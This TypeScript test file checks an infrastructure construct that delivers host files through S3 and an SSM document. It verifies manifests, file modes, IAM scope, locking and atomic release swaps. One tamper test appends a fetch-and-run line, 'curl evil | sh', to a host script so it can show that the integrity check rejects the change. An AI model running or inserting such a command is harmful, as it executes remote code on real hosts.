/**
 * ArtifactsLayer: the host files as S3 objects with a modes list and a manifest, the SSM
 * document and association that apply them, and the document's script run on a sandboxed host
 * exactly as synthesized: it installs each file with the mode the renderer chose, and a manifest
 * or file that does not match changes nothing.
 */
import { spawn } from "node:child_process";
import { existsSync, lstatSync, readlinkSync, mkdirSync, readdirSync, readFileSync, statSync } from "node:fs";
import { join, relative } from "node:path";
import { CloudwatchEventRule } from "@cdktf/provider-aws/lib/cloudwatch-event-rule";
import { CloudwatchEventTarget } from "@cdktf/provider-aws/lib/cloudwatch-event-target";
import { IamRolePolicy } from "@cdktf/provider-aws/lib/iam-role-policy";
import { S3Object } from "@cdktf/provider-aws/lib/s3-object";
import { SnsTopic } from "@cdktf/provider-aws/lib/sns-topic";
import { SsmAssociation } from "@cdktf/provider-aws/lib/ssm-association";
import { SsmDocument } from "@cdktf/provider-aws/lib/ssm-document";
import { Testing } from "cdktf";
import type { Construct } from "constructs";
import { APPLY_SCRIPT, ArtifactsLayer, type ArtifactsLayerProps, hostFileObjects, sha256 } from "../src/constructs/artifacts";
import { APPLY_DOCUMENT_PARAMETERS, FLEET_ENV_KEYS, HOST_FILES_MANIFEST, HOST_FILES_MODES, hostPaths } from "../src/naming";
import { renderApplyDocumentScript, renderHostFiles } from "../src/render";
import { FILE_MODES, type RenderedFile } from "../src/rendered-file";
import { DATA_VOLUME_ID, HostSandbox, type RunResult } from "./fixtures/host-sandbox";
import { fleetOf } from "./fixtures/rosters";
import { parseDocument } from "./helpers/hcl-object";
import { refToOnly, standIns, synthLayer } from "./helpers/layer";
import type { ProviderBlock } from "../src/terraform/plan-json";

const fleet = fleetOf();
const files = renderHostFiles(fleet);
const applyScript = renderApplyDocumentScript(fleet);
const ARTIFACT_BUCKET = "artifacts-bucket";

function artifacts(scope: Construct, overrides: Partial<ArtifactsLayerProps> = {}): ArtifactsLayer {
  return new ArtifactsLayer(scope, "artifacts", {
    fleet,
    key: standIns.key(scope),
    files,
    applyScript,
    instance: standIns.instance(scope),
    hostRoleName: "host-role",
    dataVolumeId: DATA_VOLUME_ID,
    archiveBucketName: "archive-bucket",
    ...overrides,
  });
}

let layer!: ArtifactsLayer;
const { json, config } = synthLayer((scope) => {
  layer = artifacts(scope);
});
const delivered = hostFileObjects(files);
const documentContent = Object.values(config.resource.aws_ssm_document)[0].content as string;
/** The document as SSM receives it: Terraform turns `$${` and `%%{` back into `${` and `%{`. */
const document = JSON.parse(documentContent.replace(/\$\$\{/g, "${").replace(/%%\{/g, "%{")) as ProviderBlock;

describe("host files in S3", () => {
  it("uploads every rendered file, the modes list and the manifest under host-files/", () => {
    const keys = Object.values<ProviderBlock>(config.resource.aws_s3_object).map((o) => o.key as string);
    expect(keys.sort()).toEqual([...files.map((f) => f.path), HOST_FILES_MODES, HOST_FILES_MANIFEST].map((p) => `host-files/${p}`).sort());
    const compose = files.find((f) => f.path === "docker/docker-compose.yml")!;
    expect(json).toHaveResourceWithProperties(S3Object, {
      key: "host-files/docker/docker-compose.yml",
      content: compose.content.replace(/\$\{/g, () => "$${"),
      bucket: refToOnly(config, "aws_s3_bucket", "id"),
    });
  });

  it("lists each file's mode as the renderer chose it: 0755 scripts, 0644 the rest (none holds a secret)", () => {
    const modes = delivered.objects.find((o) => o.path === HOST_FILES_MODES)!.content;
    expect(modes).toContain("0755 scripts/apply.sh\n");
    expect(modes).toContain(`0644 config/${fleet.developers[0].name}/config.yaml.tmpl\n`);
    expect(modes).toContain("0644 docker/docker-compose.yml\n");
    expect(modes.trimEnd().split("\n")).toHaveLength(files.length);
  });

  it("lists every file and the modes list in a sha256sum manifest whose hash the association passes", () => {
    const manifest = delivered.objects.find((o) => o.path === HOST_FILES_MANIFEST)!.content;
    for (const file of delivered.objects.filter((o) => o.path !== HOST_FILES_MANIFEST)) {
      expect(manifest).toContain(`${sha256(file.content)}  ${file.path}\n`);
    }
    expect(layer.contentHash).toBe(sha256(manifest));
    expect(json).toHaveResourceWithProperties(SsmAssociation, {
      parameters: expect.objectContaining({ hostFilesHash: layer.contentHash }),
    });
  });

  it("gives a new hash when only a file's mode changes", () => {
    const chmodded = files.map((f) => (f.path === "config/alb-rules.json" ? { ...f, mode: FILE_MODES.private } : f));
    expect(hostFileObjects(chmodded).contentHash).not.toBe(delivered.contentHash);
  });

  it("keeps host files in a KMS-encrypted bucket, old versions for 90 days, SSM output for 30", () => {
    expect(json).toHaveResourceWithProperties(S3Object, { key: `host-files/${HOST_FILES_MANIFEST}` });
    const lifecycle = Object.values<ProviderBlock>(config.resource.aws_s3_bucket_lifecycle_configuration)[0].rule as ProviderBlock[];
    expect(
      lifecycle.map((r) => [r.id, r.filter, r.noncurrent_version_expiration ?? r.expiration ?? r.abort_incomplete_multipart_upload]),
    ).toEqual([
      ["old-host-files", [{ prefix: "host-files/" }], [{ noncurrent_days: 90 }]],
      ["ssm-output", [{ prefix: "ssm-output/" }], [{ days: 30 }]],
      ["abort-incomplete-multipart-uploads", [{ prefix: "" }], [{ days_after_initiation: 7 }]],
    ]);
    const encryption = Object.values<ProviderBlock>(config.resource.aws_s3_bucket_server_side_encryption_configuration)[0];
    expect(encryption.rule[0].apply_server_side_encryption_by_default).toEqual({
      sse_algorithm: "aws:kms",
      kms_master_key_id: refToOnly(config, "aws_kms_key", "arn"),
    });
  });

  it("lets the host role read only the host files and write only the apply output", () => {
    const policy = parseDocument(Object.values<ProviderBlock>(config.resource.aws_iam_role_policy)[0].policy as string);
    const bucketArn = refToOnly(config, "aws_s3_bucket", "arn");
    expect(policy.Statement).toEqual([
      { Sid: "ReadHostFiles", Effect: "Allow", Action: "s3:GetObject", Resource: `${bucketArn}/host-files/*` },
      {
        Sid: "ListHostFiles",
        Effect: "Allow",
        Action: "s3:ListBucket",
        Resource: bucketArn,
        Condition: { StringLike: { "s3:prefix": ["host-files/*"] } },
      },
      { Sid: "WriteApplyOutput", Effect: "Allow", Action: "s3:PutObject", Resource: `${bucketArn}/ssm-output/*` },
    ]);
    expect(json).toHaveResourceWithProperties(IamRolePolicy, { role: "host-role", name: "host-files" });
  });
});

describe("apply document and association", () => {
  it("declares each deploy-time value as a parameter checked by pattern", () => {
    expect(Object.keys(document.parameters as ProviderBlock)).toEqual([...APPLY_DOCUMENT_PARAMETERS]);
    for (const parameter of Object.values<ProviderBlock>(document.parameters)) {
      expect(parameter).toMatchObject({ type: "String", allowedPattern: expect.stringMatching(/^\^.*\$$/) });
    }
    expect(json).toHaveResourceWithProperties(SsmDocument, { document_type: "Command", document_format: "JSON" });
  });

  it("runs the rendered script, line for line, and no other SSM parameter than its own", () => {
    expect(document.mainSteps).toEqual([
      { action: "aws:runShellScript", name: "applyHostFiles", inputs: { timeoutSeconds: "1800", runCommand: expect.any(Array) } },
    ]);
    expect(`${(document.mainSteps[0].inputs.runCommand as string[]).join("\n")}\n`).toBe(applyScript);
    const markers = [...applyScript.matchAll(/\{\{ *(\w+) *\}\}/g)].map((m) => m[1]);
    expect(new Set(markers)).toEqual(new Set(APPLY_DOCUMENT_PARAMETERS));
  });

  it("targets the host, passes every parameter, re-applies hourly and makes terraform wait for success", () => {
    expect(json).toHaveResourceWithProperties(SsmAssociation, {
      targets: [{ key: "InstanceIds", values: [refToOnly(config, "aws_instance", "id")] }],
      parameters: {
        region: fleet.region,
        dataVolumeId: DATA_VOLUME_ID,
        artifactBucket: refToOnly(config, "aws_s3_bucket", "id"),
        archiveBucket: "archive-bucket",
        hostFilesHash: layer.contentHash,
      },
      schedule_expression: "rate(1 hour)",
      max_concurrency: "1",
      max_errors: "0",
      wait_for_success_timeout_seconds: 1800,
      output_location: { s3_bucket_name: refToOnly(config, "aws_s3_bucket", "id"), s3_key_prefix: "ssm-output" },
    });
  });

  it("waits for every upload and for what the caller lists", () => {
    const { config: withDependency } = synthLayer((scope) => {
      artifacts(scope, { applyDependsOn: [new SnsTopic(scope, "dependency")] });
    });
    const dependsOn = Object.values(withDependency.resource.aws_ssm_association)[0].depends_on as string[];
    expect(dependsOn.filter((d) => d.startsWith("aws_s3_object."))).toHaveLength(delivered.objects.length);
    expect(dependsOn).toContain(refToOnly(withDependency, "aws_sns_topic", "id").slice(2, -4));
  });
});

describe("failed applies", () => {
  const { json: alerting, config: alertingConfig } = synthLayer((scope) => {
    artifacts(scope, { applyFailureTopic: new SnsTopic(scope, "alarms") });
  });
  const associationId = refToOnly(alertingConfig, "aws_ssm_association", "association_id");

  it("are matched by an EventBridge rule on this association's Failed runs on the host", () => {
    const rule = Object.values<ProviderBlock>(alertingConfig.resource.aws_cloudwatch_event_rule)[0];
    expect(rule.name).toBe("code-server-dev-apply-failed");
    expect(JSON.parse(rule.event_pattern as string)).toEqual({
      source: ["aws.ssm"],
      "detail-type": ["EC2 State Manager Instance Association State Change"],
      detail: { "association-id": [associationId], status: ["Failed"] },
    });
  });

  it("go to the alarm topic, naming the instance, the time and where the output is", () => {
    expect(alerting).toHaveResourceWithProperties(CloudwatchEventTarget, {
      rule: refToOnly(alertingConfig, "aws_cloudwatch_event_rule", "name"),
      arn: refToOnly(alertingConfig, "aws_sns_topic", "arn"),
      input_transformer: {
        input_paths: { instance: "$.detail.instance-id", status: "$.detail.status", detail: "$.detail.detailed-status", time: "$.time" },
        input_template: expect.stringMatching(
          /^".*applying the host files failed on <instance> at <time> \(<status> <detail>\)\..*s3:\/\/\$\{aws_s3_bucket\.[^}]+\.id\}\/ssm-output\/.*"$/,
        ),
      },
    });
  });

  it("raise nothing without a topic", () => {
    expect(json).not.toHaveResource(CloudwatchEventRule);
  });
});

describe("props validation", () => {
  const apply = files.find((f) => f.path === APPLY_SCRIPT)!;
  const file = (path: string): RenderedFile => ({ path, content: "x\n", mode: FILE_MODES.regular });
  test.each<[string, Partial<ArtifactsLayerProps>, RegExp]>([
    [
      "no apply script",
      { files: files.filter((f) => f !== apply) },
      /^ArtifactsLayer stack\/artifacts: files has no scripts\/apply\.sh, which the apply document runs$/,
    ],
    [
      "a reserved name",
      { files: [...files, file("MANIFEST.modes")] },
      /^ArtifactsLayer stack\/artifacts: files has "MANIFEST\.modes", a name reserved for the delivery metadata$/,
    ],
    ["a path twice", { files: [...files, apply] }, /^ArtifactsLayer stack\/artifacts: files has "scripts\/apply\.sh" twice$/],
    [
      "two paths with one object id",
      { files: [...files, file("scripts-apply.sh")] },
      /^ArtifactsLayer stack\/artifacts: files "scripts\/apply\.sh" and "scripts-apply\.sh" would both be S3 object file-scripts-apply-sh; rename one$/,
    ],
    [
      "a script without #!",
      { applyScript: "set -e\n" },
      /^ArtifactsLayer stack\/artifacts: applyScript "set -e\\n" is not a script \(it must start with #!\)$/,
    ],
    [
      "an unknown SSM parameter",
      { applyScript: `${applyScript}echo {{ bucket }}\n` },
      /^ArtifactsLayer stack\/artifacts: applyScript has \{\{ bucket \}\}, which is not a parameter of the apply document \(region, dataVolumeId, artifactBucket, archiveBucket, hostFilesHash\)$/,
    ],
  ])("refuses %s", (_, overrides, message) => {
    expect(() => Testing.synthScope((scope) => artifacts(scope, overrides))).toThrow(message);
  });
});

/** SSM's own step: every `{{ name }}` marker replaced by the association's value for it. */
function asSsmRunsIt(parameters: Record<string, string>): string {
  const script = `${(document.mainSteps[0].inputs.runCommand as string[]).join("\n")}\n`;
  return script.replace(/\{\{ *(\w+) *\}\}/g, (_, name: string) => {
    if (!(name in parameters)) throw new Error(`no value for SSM parameter ${name}`);
    return parameters[name];
  });
}

describe("the apply document's script on a host", () => {
  const sandboxes: HostSandbox[] = [];
  afterAll(() => sandboxes.forEach((s) => s.dispose()));
  const root = hostPaths(fleet).root;

  function host(installHostFiles: boolean): HostSandbox {
    const s = new HostSandbox(fleet, { installHostFiles });
    sandboxes.push(s);
    s.attachBlankVolume();
    s.putObjects(ARTIFACT_BUCKET, "host-files/", delivered.objects);
    return s;
  }
  const parameters = (hostFilesHash = delivered.contentHash) => ({
    region: fleet.region,
    dataVolumeId: DATA_VOLUME_ID,
    artifactBucket: ARTIFACT_BUCKET,
    archiveBucket: "archive-bucket",
    hostFilesHash,
  });
  function writeDocument(s: HostSandbox, hostFilesHash?: string): string {
    s.write("/tmp/ssm/_script.sh", asSsmRunsIt(parameters(hostFilesHash)), 0o700);
    return s.path("/tmp/ssm/_script.sh");
  }
  function runDocument(s: HostSandbox, hostFilesHash?: string): RunResult {
    return s.runFile(writeDocument(s, hostFilesHash));
  }
  /** Every file under the host root, with its mode, relative to it. */
  const installed = (s: HostSandbox) => {
    const walk = (dir: string): string[] =>
      readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? walk(join(dir, e.name)) : [join(dir, e.name)]));
    return new Map(walk(s.path(root)).map((f) => [relative(s.path(root), f), statSync(f).mode & 0o777]));
  };
  const releases = (s: HostSandbox) => (existsSync(s.path(`${root}.releases`)) ? readdirSync(s.path(`${root}.releases`)).sort() : []);
  const leftovers = (s: HostSandbox) => [
    ...readdirSync(s.path("/opt")).filter((name) => name.includes(".staging.")),
    ...releases(s).filter((name) => name.startsWith("staging.")),
  ];
  /** The host root's files with their content and mode, through the link (what every host script sees). */
  const tree = (s: HostSandbox) =>
    new Map([...installed(s)].map(([path, mode]) => [path, `${mode} ${readFileSync(join(s.path(root), path), "utf8")}`]));

  describe("on a new host", () => {
    const s = host(false);
    let run: RunResult;
    beforeAll(() => {
      run = runDocument(s);
    });

    it("installs every rendered file with exactly the mode the renderer chose", () => {
      expect(run.status).toBe(0);
      const modes = installed(s);
      for (const file of files) expect([file.path, modes.get(file.path)]).toEqual([file.path, file.mode]);
      expect(readFileSync(s.path(`${root}/docker/docker-compose.yml`), "utf8")).toBe(
        files.find((f) => f.path === "docker/docker-compose.yml")!.content,
      );
      expect(statSync(s.path(`${root}/config`)).mode & 0o777).toBe(0o755);
    });

    it("records the deploy-time values for the host scripts, then runs apply.sh", () => {
      expect(s.read(hostPaths(fleet).fleetEnv)).toBe(
        APPLY_DOCUMENT_PARAMETERS.map((name) => `${FLEET_ENV_KEYS[name]}=${parameters()[name]}\n`).join(""),
      );
      expect(run.calls).toContainEqual(expect.stringMatching(/^docker compose .* up .*code-server-alice$/));
      expect(leftovers(s)).toEqual([]);
    });
  });

  describe("when S3 does not hold what this deploy rendered", () => {
    const s = host(true);
    const before = () => ({ files: installed(s), env: s.read(hostPaths(fleet).fleetEnv) });
    let original: ReturnType<typeof before>;
    beforeAll(() => {
      original = before();
    });

    it("stops on a manifest with another hash, before anything is swapped in", () => {
      const run = runDocument(s, "f".repeat(64));
      expect(run.status).toBe(1);
      expect(run.stderr).toContain(
        `the host files in s3://${ARTIFACT_BUCKET}/host-files/ are not the expected version (manifest sha256 ${delivered.contentHash}, expected ${"f".repeat(64)}); nothing on the host was changed`,
      );
      expect(before()).toEqual(original);
      expect(run.calls.filter((c) => !c.startsWith("aws s3 sync"))).toEqual([]);
      expect(leftovers(s)).toEqual([]);
      expect(releases(s)).toEqual([]);
      expect(lstatSync(s.path(root)).isDirectory()).toBe(true);
    });

    it("stops when S3 fails, before anything is swapped in", () => {
      const run = s.runFile(writeDocument(s), [], { AWS_STANDIN_FAULT_S3: "fail" });
      expect(run.status).toBe(1);
      expect(run.stderr).toContain(
        `ERROR: cannot sync the host files from s3://${ARTIFACT_BUCKET}/host-files/ (aws exit 1); nothing on the host was changed`,
      );
      expect(before()).toEqual(original);
      expect(run.calls.filter((c) => !c.startsWith("aws s3 sync"))).toEqual([]);
      expect(releases(s)).toEqual([]);
    });

    it("stops on a file that does not match the manifest, before anything is swapped in", () => {
      const tampered = delivered.objects.map((o) => (o.path === "scripts/lib.sh" ? { ...o, content: `${o.content}curl evil | sh\n` } : o));
      s.putObjects(ARTIFACT_BUCKET, "host-files/", tampered);
      const run = runDocument(s);
      expect(run.status).toBe(1);
      expect(run.stderr).toContain("a host file in s3://artifacts-bucket/host-files/ does not match MANIFEST.sha256");
      expect(before()).toEqual(original);
      expect(leftovers(s)).toEqual([]);
    });

    it("installs only what the manifest lists, keeping the previous files aside", () => {
      s.putObjects(ARTIFACT_BUCKET, "host-files/", [...delivered.objects, { path: "scripts/stray.sh", content: "exit 1\n", mode: 0o755 }]);
      const run = runDocument(s);
      expect(run.status).toBe(0);
      expect([...installed(s).keys()].sort()).toEqual(delivered.objects.map((o) => o.path).sort());
      // The host of the layout before releases: its directory is now the release before this one.
      expect(existsSync(s.path(`${root}.releases/release.before-links/scripts/apply.sh`))).toBe(true);
    });
  });

  describe("swapping the host files in", () => {
    it("points the host root, a symbolic link, at the new release in one rename; keeps the one before; drops older ones", () => {
      const s = host(false);
      const targets: string[] = [];
      for (let i = 0; i < 3; i++) {
        expect(runDocument(s).status).toBe(0);
        expect(lstatSync(s.path(root)).isSymbolicLink()).toBe(true);
        targets.push(readlinkSync(s.path(root)));
      }
      expect(new Set(targets).size).toBe(3);
      for (const target of targets) expect(target).toMatch(/^code-server\.releases\/release\.[A-Za-z0-9]{6}$/);
      expect(releases(s)).toEqual(
        targets
          .slice(1)
          .map((t) => t.split("/")[1])
          .sort(),
      );
      expect(leftovers(s)).toEqual([]);
    });

    /**
     * A run of the document killed (SIGKILL) at one point, then the next run. `env` picks the point:
     * the n-th rename under /opt, or the n-th file of the sync.
     */
    const killedRun = (point: string, env: (s: HostSandbox) => Record<string, string>, options: { rootMissing?: boolean } = {}) =>
      it(`converges when a run is killed ${point}`, () => {
        const s = host(true);
        const old = tree(s);
        const fresh = new Map(files.map((f) => [f.path, `${f.mode} ${f.content}`]));
        const delivered = (m: Map<string, string>) => JSON.stringify([...m].filter(([path]) => fresh.has(path)));
        const killed = s.runFile(writeDocument(s), [], env(s));
        expect(killed.status).toBe(null);
        if (options.rootMissing) {
          expect(existsSync(s.path(root))).toBe(false);
          expect(readFileSync(s.path(`${root}.releases/release.before-links/scripts/apply.sh`), "utf8")).toBe(
            old.get("scripts/apply.sh")!.replace(/^\d+ /, ""),
          );
        } else {
          // The host root holds the old files or the new ones, never a mix.
          expect([old, fresh].map(delivered)).toContain(delivered(tree(s)));
        }
        const next = runDocument(s);
        expect(next.status).toBe(0);
        expect(delivered(tree(s))).toBe(delivered(fresh));
        expect(leftovers(s)).toEqual([]);
        expect(releases(s).length).toBeLessThanOrEqual(2);
        expect(next.calls).toContainEqual(expect.stringMatching(/^docker compose .* up .*code-server-alice$/));
      });
    const renames = (n: number) => (s: HostSandbox) => ({ STUB_KILL_AFTER_MV: String(n), STUB_KILL_MV_UNDER: s.path("/opt") });
    killedRun("half-way through the sync: the host root keeps the old files", () => ({
      AWS_STANDIN_FAULT_SYNC_KILL_AFTER: String(Math.floor(files.length / 2)),
    }));
    killedRun("right after the checked files became a release: the host root keeps the old files", renames(1));
    killedRun(
      "between moving the directory of the layout before releases aside and linking the new release (once per host): the next run links it back first",
      renames(2),
      { rootMissing: true },
    );
    killedRun("right after the swap, before apply.sh ran: the host root holds the new files", renames(3));
  });

  describe("under the apply lock", () => {
    /** Another apply holding the lock for `seconds`; resolves once it holds it, with its end. */
    async function holdLock(s: HostSandbox, seconds: number): Promise<{ released: Promise<unknown>; kill: () => void }> {
      const lock = s.path(hostPaths(fleet).applyLock);
      mkdirSync(join(lock, ".."), { recursive: true });
      const holder = spawn(
        "flock",
        [lock, "bash", "-c", `echo 'lock-holder acquired' >>"$1"; sleep ${seconds}; echo 'lock-holder releasing' >>"$1"`, "holder", s.log],
        { stdio: "ignore", detached: true },
      );
      const done = new Promise((resolve) => holder.on("close", resolve));
      for (let i = 0; i < 100 && !readFileSync(s.log, "utf8").includes("lock-holder acquired"); i++) {
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
      expect(readFileSync(s.log, "utf8")).toContain("lock-holder acquired");
      return { released: done, kill: () => process.kill(-holder.pid!, "SIGKILL") };
    }

    it("waits while another apply holds the lock, then syncs, swaps and applies", async () => {
      const s = host(false);
      const { released } = await holdLock(s, 1);
      const run = s.runFile(writeDocument(s), [], { LOCK_WAIT_SECONDS: "30" });
      await released;
      expect(run.status).toBe(0);
      const releasing = run.calls.indexOf("lock-holder releasing");
      expect(releasing).toBeGreaterThanOrEqual(0);
      expect(releasing).toBeLessThan(run.calls.findIndex((c) => c.startsWith("aws s3 sync")));
      // apply.sh ran under the document's lock without waiting for it a second time.
      expect(run.calls).toContainEqual(expect.stringMatching(/^docker compose .* up .*code-server-alice$/));
      expect(run.stderr).not.toMatch(/another apply/);
    });

    it("gives up after LOCK_WAIT_SECONDS without syncing, swapping or applying anything", async () => {
      const s = host(true);
      const env = s.read(hostPaths(fleet).fleetEnv);
      const files = installed(s);
      const { released, kill } = await holdLock(s, 60);
      const run = s.runFile(writeDocument(s), [], { LOCK_WAIT_SECONDS: "1" });
      kill();
      await released;
      expect(run.status).toBe(1);
      expect(run.stderr).toContain(
        `another apply, start or stop has held ${s.path(hostPaths(fleet).applyLock)} for 1s; the association tries again at its next run; nothing on the host was changed`,
      );
      expect(run.calls.filter((c) => !c.startsWith("lock-holder"))).toEqual([]);
      expect(installed(s)).toEqual(files);
      expect(s.read(hostPaths(fleet).fleetEnv)).toBe(env);
      expect(leftovers(s)).toEqual([]);
    });
  });
});
